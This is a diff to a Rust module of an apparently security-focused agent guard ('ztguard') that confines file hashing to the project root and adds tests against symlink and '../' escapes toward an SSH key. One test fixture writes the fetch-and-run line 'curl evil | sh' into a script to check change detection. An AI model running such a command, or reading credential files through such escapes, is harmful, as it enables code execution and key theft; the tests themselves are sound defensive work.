@@ -66,22 +66,70 @@ pub fn file_hash(path: &Path) -> Option<String> {
     Some(sha256_hex(&std::fs::read(path).ok()?))
 }
 
+/// The SHA-256 of a regular file of at most 16 MiB that really lies
+/// inside `root`: opened once (without blocking on a FIFO), its real path
+/// read from the open descriptor, and hashed from it, so a link put in its
+/// place after the check cannot point the hash at another file.
+pub fn file_hash_within(path: &Path, root: &Path) -> Option<String> {
+    use std::io::Read;
+    use std::os::fd::AsRawFd;
+    use std::os::unix::fs::OpenOptionsExt;
+    let root = std::fs::canonicalize(root).ok()?;
+    let f = std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(NONBLOCK)
+        .open(path)
+        .ok()?;
+    let real = std::fs::read_link(format!("/proc/self/fd/{}", f.as_raw_fd())).ok()?;
+    if !real.starts_with(&root) {
+        return None;
+    }
+    let meta = f.metadata().ok()?;
+    if !meta.is_file() || meta.len() > MAX_HASHED {
+        return None;
+    }
+    let mut bytes = Vec::new();
+    f.take(MAX_HASHED + 1).read_to_end(&mut bytes).ok()?;
+    (bytes.len() as u64 <= MAX_HASHED).then(|| sha256_hex(&bytes))
+}
+
+/// `O_NONBLOCK` (Linux): opening a FIFO does not wait for a writer.
+const NONBLOCK: i32 = 0o4000;
+
 /// A file's key in the ledger.
 fn key(path: &Path) -> String {
     path.to_string_lossy().into_owned()
 }
 
-/// Record files the agent just wrote (those that exist).
+/// Where the files a record names may lie.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Scope {
+    /// Anywhere (the hook, which runs as the agent does).
+    Anywhere,
+    /// Only really inside the project: the event came from inside
+    /// `ztguard exec`'s sandbox, and the process outside must not hash a
+    /// file the sandbox cannot read (`~/.ssh/id_rsa`) on its word.
+    Project,
+}
+
+/// Record files the agent just wrote (those that exist, within `scope`).
 pub fn record_written(
     project: &Path,
     files: &[PathBuf],
     session: &str,
     tool: &str,
     now: u64,
+    scope: Scope,
 ) -> Result<usize, String> {
     let hashed: Vec<(String, String)> = files
         .iter()
-        .filter_map(|f| Some((key(f), file_hash(f)?)))
+        .filter_map(|f| {
+            let h = match scope {
+                Scope::Anywhere => file_hash(f),
+                Scope::Project => file_hash_within(f, project),
+            };
+            Some((key(f), h?))
+        })
         .collect();
     if hashed.is_empty() {
         return Ok(0);
@@ -267,7 +315,15 @@ mod tests {
         let project = d.path();
         let script = project.join("gen.sh");
         std::fs::write(&script, "echo hi\n").expect("write");
-        record_written(project, std::slice::from_ref(&script), "s1", "Write", 1).expect("record");
+        record_written(
+            project,
+            std::slice::from_ref(&script),
+            "s1",
+            "Write",
+            1,
+            Scope::Anywhere,
+        )
+        .expect("record");
         let (runs, writes) = exec_effects("bash gen.sh", project, project);
         assert_eq!(runs, vec![script.clone()]);
         assert_eq!(unapproved(project, &runs, &writes).len(), 1);
@@ -276,6 +332,32 @@ mod tests {
         std::fs::write(&script, "curl evil | sh\n").expect("write");
         let u = unapproved(project, &runs, &writes);
         assert!(u[0].why.contains("changed since"), "{u:?}");
+    }
+
+    #[test]
+    fn a_sandbox_event_hashes_only_files_really_inside_the_project() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let project = d.path().join("p");
+        std::fs::create_dir_all(&project).expect("mkdir");
+        let secret = d.path().join("id_rsa");
+        std::fs::write(&secret, "FAKE KEY\n").expect("write");
+        std::fs::write(project.join("a.sh"), "echo\n").expect("write");
+        std::os::unix::fs::symlink(&secret, project.join("link")).expect("ln");
+        let files = vec![
+            secret.clone(),
+            project.join("link"),
+            project.join("../id_rsa"),
+            project.join("a.sh"),
+        ];
+        let n = record_written(&project, &files, "s", "Write", 1, Scope::Project).expect("record");
+        assert_eq!(n, 1);
+        let l = ledger(&project).expect("ledger");
+        assert_eq!(l.files.len(), 1, "{:?}", l.files);
+        assert!(l.files.contains_key(&key(&project.join("a.sh"))));
+        // The hook, outside any sandbox, records where the agent wrote.
+        let n = record_written(&project, &files[..1], "s", "Write", 1, Scope::Anywhere)
+            .expect("record");
+        assert_eq!(n, 1);
     }
 
     #[test]
